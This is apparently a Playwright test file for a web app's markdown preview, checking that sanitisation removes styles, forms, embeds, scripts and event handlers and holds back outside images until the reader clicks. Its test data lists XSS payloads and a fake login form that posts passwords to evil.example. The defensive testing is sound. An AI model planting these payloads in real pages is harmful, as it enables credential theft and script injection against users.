import { expect, test } from "@playwright/test";
import { signedInPerson } from "./support/accounts.ts";
import { mutation, now, pushMutations } from "./support/sync-push.ts";
import { createProjectThroughSync } from "./support/sync.ts";

/** Every attack the description preview must defuse, with harmless markdown around it. */
const description = [
  "# Release notes",
  '<div style="position:fixed;inset:0;z-index:9999;background:red">Covers the page</div>',
  '<form action="https://evil.example/steal" method="post"><input type="password" name="pw"><input type="text" name="user"><button>Log in again</button></form>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
  "<script>window.pwned = 'script'</script>",
  "[a script link](javascript:window.pwned='link')",
  `<a href="javascript:window.pwned='html link'">another</a>`,
  `<img src="/no-such-image.png" onerror="window.pwned='onerror'">`,
  "![tracking pixel](https://evil.example/pixel.png)",
  "![the app's icon](/icons/icon.svg)",
  "- [x] shipped",
  "- [ ] announced",
  "",
  "**Bold**, _italic_, ~~gone~~, `code` and [the site](https://example.com/page).",
].join("\n\n");

const onePixelPng = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);

test("a description's markdown is shown without styles, forms, embeds, scripts or images that call home", async ({
  page,
}) => {
  const person = await signedInPerson("markdown");
  await page.context().addCookies(person.cookies);
  const projectId = await createProjectThroughSync(page.request, person.workspaceId, {
    name: "Website",
    key: "WEB",
  });
  const taskId = `tsk-md-${Date.now().toString(36)}`;
  await pushMutations(page.request, [
    mutation("createTask", {
      id: taskId,
      projectId,
      title: "Notes",
      description,
      createdAt: now(),
    }),
  ]);
  const outside: string[] = [];
  await page.route("https://evil.example/**", async (route) => {
    outside.push(route.request().url());
    await route.fulfill({ contentType: "image/png", body: onePixelPng });
  });

  await page.goto(`/dashboard/workspace/${person.workspaceId}/project/${projectId}/task/${taskId}`);
  const preview = page.locator(".markdown");
  await expect(preview.getByRole("heading", { name: "Release notes" })).toBeVisible();

  for (const selector of ["[style]", "form", "iframe", "object", "embed", "script", "[onerror]"]) {
    await expect(preview.locator(selector), selector).toHaveCount(0);
  }
  await expect(preview.locator('input:not([type="checkbox"])')).toHaveCount(0);
  await expect(preview.locator('[href^="javascript"]')).toHaveCount(0);
  const checkboxes = preview.getByRole("checkbox");
  await expect(checkboxes).toHaveCount(2);
  await expect(checkboxes.first()).toBeChecked();
  await expect(checkboxes.first()).toBeDisabled();
  await expect(checkboxes.last()).not.toBeChecked();
  const link = preview.getByRole("link", { name: "the site" });
  await expect(link).toHaveAttribute("href", "https://example.com/page");
  await expect(link).toHaveAttribute("target", "_blank");
  await expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
  await expect(preview.getByRole("img", { name: "the app's icon" })).toHaveAttribute(
    "src",
    "/icons/icon.svg",
  );

  // The external image waits for the reader: nothing has gone out yet.
  const load = preview.getByRole("button", { name: "Load image from evil.example" });
  await expect(load).toBeVisible();
  expect(outside).toEqual([]);
  expect(await page.evaluate(() => Reflect.get(window, "pwned"))).toBeUndefined();

  await load.click();
  const image = preview.getByRole("img", { name: "tracking pixel" });
  await expect(image).toHaveAttribute("src", "https://evil.example/pixel.png");
  await expect.poll(() => outside).toEqual(["https://evil.example/pixel.png"]);
  expect(await page.evaluate(() => Reflect.get(window, "pwned"))).toBeUndefined();
});
